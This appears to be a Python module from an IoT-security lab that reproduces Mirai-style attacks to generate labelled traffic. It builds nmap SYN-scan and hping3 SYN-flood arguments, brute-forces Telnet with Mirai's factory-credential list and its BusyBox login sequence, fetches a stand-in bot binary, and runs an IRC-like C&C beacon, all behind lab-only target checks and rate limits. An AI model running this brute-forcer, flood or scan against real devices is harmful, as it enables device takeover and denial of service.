"""The attacks: argument lists for real tools, and bounded code of our own for the rest.

In: addresses inside the lab. Out: argument lists; run as a program, one attack over real sockets.
Must never: be given a target that ``network.require_inside`` refuses, or run without a bound in count and time.
Source: the credentials and the order of the dialogue follow Mirai's published scanner.
"""

# ruff: noqa: S311  random numbers here shape traffic and guard nothing

from __future__ import annotations

import json
import random
import socket
import sys
import time
from collections.abc import Sequence
from typing import Final

from thingwarden.domain.errors import RequestError
from thingwarden.domain.taxonomy import AttackClass
from thingwarden.lab import wire
from thingwarden.lab.network import require_inside, require_namespace

MAX_FLOOD_PACKETS: Final = 20_000
MAX_PACKETS_PER_S: Final = 2_000

CLASS_OF_KIND: Final = {
    "scan": AttackClass.SCAN,
    "guess": AttackClass.BRUTE_FORCE,
    "download": AttackClass.DOWNLOAD,
    "beacon": AttackClass.C2,
    "flood": AttackClass.DOS,
}
"""What each kind of attack is in the product's taxonomy, by what its flows show."""

CREDENTIALS: Final = (
    ("root", "vizxv"), ("root", "admin"), ("admin", "admin"), ("root", "888888"), ("root", "xmhdipc"),
    ("root", "default"), ("root", "juantech"), ("root", "123456"), ("root", "54321"), ("support", "support"),
    ("root", ""), ("admin", "password"), ("root", "root"), ("root", "12345"), ("user", "user"), ("admin", ""),
    ("root", "pass"), ("admin", "admin1234"), ("root", "1111"), ("admin", "smcadmin"), ("admin", "1111"),
    ("root", "666666"), ("root", "password"), ("root", "1234"), ("root", "klv123"), ("root", "xc3511"),
)  # fmt: skip
"""The last one is the one that the lab's cameras accept."""


def scan_arguments(targets: Sequence[str], port_count: int, packets_per_s: int) -> list[str]:
    """nmap's argument list for a TCP SYN scan of the most common ports.

    Raises:
        RequestError: a target outside the lab, or a rate out of bounds.
    """
    _require_bounds(targets, packets_per_s)
    return [
        "nmap", "-sS", "-n", "-Pn", "--top-ports", str(port_count), "--max-rate", str(packets_per_s),
        "--max-retries", "1", *targets,
    ]  # fmt: skip


def flood_arguments(target: str, port: int, packet_count: int, packets_per_s: int) -> list[str]:
    """hping3's argument list for a SYN flood from the device's own address.

    Raises:
        RequestError: a target outside the lab, or a count or rate out of bounds.
    """
    _require_bounds([target], packets_per_s)
    if not 0 < packet_count <= MAX_FLOOD_PACKETS:
        raise RequestError("lab flood", f"{packet_count} packets", f"1 to {MAX_FLOOD_PACKETS}")
    interval_us = 1_000_000 // packets_per_s
    return ["hping3", "-q", "-S", "-p", str(port), "-c", str(packet_count), "-i", f"u{interval_us}", target]


def _require_bounds(targets: Sequence[str], packets_per_s: int) -> None:
    for target in targets:
        require_inside(target)
    if not 0 < packets_per_s <= MAX_PACKETS_PER_S:
        raise RequestError("lab attack", f"{packets_per_s} packets/s", f"1 to {MAX_PACKETS_PER_S}")


def own_arguments(kind: str, target: str, port: int, *, lasts_s: float, seed: str) -> list[str]:
    """The argument list that runs this module as ``guess``, ``download`` or ``beacon``.

    Raises:
        RequestError: a target outside the lab.
    """
    require_inside(target)
    given = {"kind": kind, "target": target, "port": port, "lasts_s": lasts_s, "seed": seed}
    return [sys.executable, "-m", "thingwarden.lab.attacks", json.dumps(given)]


def guess_telnet(target: str, port: int, rng: random.Random, *, lasts_s: float) -> bool:
    """Try factory passwords, three a connection, until one is accepted or ``lasts_s`` have passed."""
    ends_at_s = time.monotonic() + lasts_s
    pairs = list(CREDENTIALS)
    while pairs and time.monotonic() < ends_at_s:
        batch, pairs = pairs[:3], pairs[3:]
        try:
            if _try_logins(target, port, batch, rng):
                return True
        except OSError:
            time.sleep(0.5)
        time.sleep(rng.uniform(0.05, 0.4))
    return False


def _try_logins(target: str, port: int, batch: Sequence[tuple[str, str]], rng: random.Random) -> bool:
    with wire.connect(target, port) as client:
        _read_until(client, b"login: ")
        client.sendall(b"\xff\xfc\x01\xff\xfc\x1f\xff\xfe\x01\xff\xfe\x03")
        for user, password in batch:
            time.sleep(rng.uniform(0.02, 0.1))
            client.sendall(user.encode() + b"\r\n")
            _read_until(client, b"Password: ")
            client.sendall(password.encode() + b"\r\n")
            if _read_until(client, b"# ", b"login: ").endswith(b"# "):
                for command in (b"enable", b"shell", b"/bin/busybox ECCHI", b"exit"):
                    client.sendall(command + b"\r\n")
                    time.sleep(rng.uniform(0.1, 0.3))
                return True
    return False


def _read_until(client: socket.socket, *ends: bytes) -> bytes:
    seen = b""
    while not seen.endswith(ends):
        chunk = client.recv(1024)
        if not chunk:
            raise ConnectionResetError("the device closed")
        seen += chunk
    return seen


def download_bot(target: str) -> int:
    """Fetch the bot's binary (random bytes) as a dropper does; the number of bytes got."""
    return len(wire.http(target, target, "/bins/arm7"))


def call_home(target: str, port: int, rng: random.Random, *, lasts_s: float) -> None:
    """Keep up a C&C contact: sessions of a few short lines each, a few seconds apart, for ``lasts_s``."""
    ends_at_s = time.monotonic() + lasts_s
    while time.monotonic() < ends_at_s:
        try:
            with wire.connect(target, port) as client:
                client.sendall(f"NICK bot{rng.randrange(10**6):06d}\r\nJOIN #k\r\n".encode())
                for _ in range(rng.randint(1, 4)):
                    client.recv(1024)
                    time.sleep(rng.uniform(3.5, 5.0))
                    client.sendall(b"PING :k\r\n")
                client.shutdown(socket.SHUT_WR)
                wire.read_all(client)
        except OSError:
            pass  # the bot just tries again
        time.sleep(rng.uniform(3.0, 6.0))


def main() -> None:
    """Entry point of the attacker's process."""
    require_namespace()
    given = json.loads(sys.argv[1])
    require_inside(given["target"])
    rng = random.Random(given["seed"])
    target, port, lasts_s = given["target"], int(given["port"]), float(given["lasts_s"])
    if given["kind"] == "guess":
        guess_telnet(target, port, rng, lasts_s=lasts_s)
    elif given["kind"] == "download":
        download_bot(target)
    else:
        call_home(target, port, rng, lasts_s=lasts_s)


if __name__ == "__main__":
    main()
